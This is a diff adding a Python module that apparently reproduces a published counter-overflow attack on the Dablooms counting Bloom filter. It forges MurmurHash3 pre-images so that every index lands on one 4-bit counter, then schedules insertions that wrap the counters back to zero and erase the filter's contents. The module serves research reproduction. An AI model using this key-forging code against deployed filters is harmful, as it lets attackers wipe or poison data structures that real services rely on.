@@ -1,0 +1,174 @@
+"""The counter-overflow attack on Dablooms (paper Section 6.2).
+
+Dablooms derives all k indexes of an item from *one* MurmurHash3 x64_128
+call via Kirsch-Mitzenmacher (``index_i = h1 + i*h2 mod m``).  Because
+MurmurHash is invertible in constant time, the adversary picks the pair
+``(h1, h2) = (c + j*m, 0)`` and forges a key whose k indexes all equal
+counter ``c`` -- one insertion adds k to a single 4-bit counter.
+
+Following the paper: write ``nk = a + 16 b``.  The adversary schedules
+her n insertions so that every targeted counter receives a multiple of
+16 increments (wrapping back to zero) except one, which ends at ``a``.
+The slice's insertion counter says "full"; its content says "empty":
+none of the n inserted keys is found again, and the memory is wasted.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from math import gcd
+
+from repro.core.counters import OverflowPolicy
+from repro.core.counting import CountingBloomFilter
+from repro.exceptions import ParameterError
+from repro.hashing.inversion import invert_murmur3_x64_128
+from repro.hashing.kirsch_mitzenmacher import KirschMitzenmacherStrategy
+
+__all__ = ["OverflowPlan", "OverflowReport", "CounterOverflowAttack", "plan_overflow"]
+
+
+@dataclass(frozen=True)
+class OverflowPlan:
+    """Assignment of insertions to target counters.
+
+    ``assignments`` maps a counter position to the number of forged items
+    aimed at it; ``residue_counter`` is the one counter left at
+    ``residue_value = n*k mod 2**counter_bits`` (0 means a perfectly
+    clean wipe).
+    """
+
+    assignments: dict[int, int]
+    residue_counter: int
+    residue_value: int
+
+    @property
+    def total_items(self) -> int:
+        """Total forged insertions scheduled."""
+        return sum(self.assignments.values())
+
+
+def plan_overflow(n: int, k: int, counter_bits: int = 4, m: int | None = None) -> OverflowPlan:
+    """Schedule ``n`` single-counter items so all counters wrap to zero.
+
+    Each forged item adds k to one counter mod ``2**counter_bits``.  A
+    counter returns to zero after ``t0 = M/gcd(k, M)`` items (M = 16 for
+    4-bit counters).  The plan spends full groups of ``t0`` on distinct
+    counters and parks the remainder on one residue counter, which ends
+    at ``a = n*k mod M`` exactly as in the paper.
+    """
+    if n <= 0 or k <= 0:
+        raise ParameterError("n and k must be positive")
+    if counter_bits < 1:
+        raise ParameterError("counter_bits must be >= 1")
+    modulus = 1 << counter_bits
+    t0 = modulus // gcd(k, modulus)
+    full_groups, remainder = divmod(n, t0)
+    if m is not None and full_groups + 1 > m:
+        raise ParameterError(
+            f"plan needs {full_groups + 1} distinct counters but filter has {m}"
+        )
+    assignments: dict[int, int] = {c: t0 for c in range(full_groups)}
+    residue_counter = full_groups
+    if remainder:
+        assignments[residue_counter] = remainder
+    return OverflowPlan(
+        assignments=assignments,
+        residue_counter=residue_counter,
+        residue_value=(n * k) % modulus,
+    )
+
+
+@dataclass
+class OverflowReport:
+    """Outcome of an overflow campaign against one counting slice."""
+
+    items_inserted: int = 0
+    forged_keys: list[bytes] = field(default_factory=list)
+    nonzero_counters_after: int = 0
+    overflow_events: int = 0
+    lost_keys: int = 0
+
+    @property
+    def wiped(self) -> bool:
+        """True when at most the residue counter survived."""
+        return self.nonzero_counters_after <= 1
+
+
+class CounterOverflowAttack:
+    """Forge single-counter keys and wipe a counting slice in place.
+
+    Parameters
+    ----------
+    target:
+        A counting filter whose strategy is Kirsch-Mitzenmacher over
+        MurmurHash3 x64_128 (as in Dablooms) and whose counters WRAP.
+    prefix:
+        Plausible key stem; must be a multiple of 16 bytes so the
+        steering block lands on a MurmurHash block boundary.
+    seed:
+        The (public) MurmurHash seed of the deployment.
+    """
+
+    def __init__(
+        self,
+        target: CountingBloomFilter,
+        prefix: bytes = b"http://evil.tld/",
+        seed: int = 0,
+    ) -> None:
+        if not isinstance(target, CountingBloomFilter):
+            raise ParameterError("overflow attacks require a CountingBloomFilter")
+        if not isinstance(target.strategy, KirschMitzenmacherStrategy):
+            raise ParameterError(
+                "overflow forgery needs the Kirsch-Mitzenmacher/Murmur strategy "
+                "(the one Dablooms uses)"
+            )
+        if target.overflow is not OverflowPolicy.WRAP:
+            raise ParameterError(
+                "the attack exploits wrapping counters; this filter uses "
+                f"{target.overflow.value}"
+            )
+        if len(prefix) % 16:
+            raise ParameterError("prefix length must be a multiple of 16 bytes")
+        self.target = target
+        self.prefix = prefix
+        self.seed = seed
+
+    def forge_key(self, counter: int, variant: int) -> bytes:
+        """A key whose k indexes all equal ``counter``.
+
+        ``variant`` selects among the infinitely many pre-images
+        (``h1 = counter + variant*m``), keeping forged keys distinct.
+        """
+        if not 0 <= counter < self.target.m:
+            raise ParameterError(f"counter {counter} out of range [0, {self.target.m})")
+        h1 = counter + variant * self.target.m
+        if h1 >= 1 << 64:
+            raise ParameterError("variant too large for a 64-bit h1")
+        return invert_murmur3_x64_128(h1, 0, seed=self.seed, prefix=self.prefix)
+
+    def run(self, n: int) -> OverflowReport:
+        """Insert ``n`` forged keys per :func:`plan_overflow` and report.
+
+        After the run the slice has accepted ``n`` insertions (so a
+        scaling wrapper believes it is filling up) while containing at
+        most one non-zero counter.
+        """
+        plan = plan_overflow(
+            n, self.target.k, self.target.counters.counter_bits, self.target.m
+        )
+        report = OverflowReport()
+        overflow_before = self.target.counters.overflow_events
+        for counter, item_count in plan.assignments.items():
+            for variant in range(item_count):
+                key = self.forge_key(counter, variant)
+                self.target.add(key)
+                report.forged_keys.append(key)
+                report.items_inserted += 1
+        report.nonzero_counters_after = self.target.counters.nonzero_count()
+        report.overflow_events = (
+            self.target.counters.overflow_events - overflow_before
+        )
+        report.lost_keys = sum(
+            1 for key in report.forged_keys if key not in self.target
+        )
+        return report
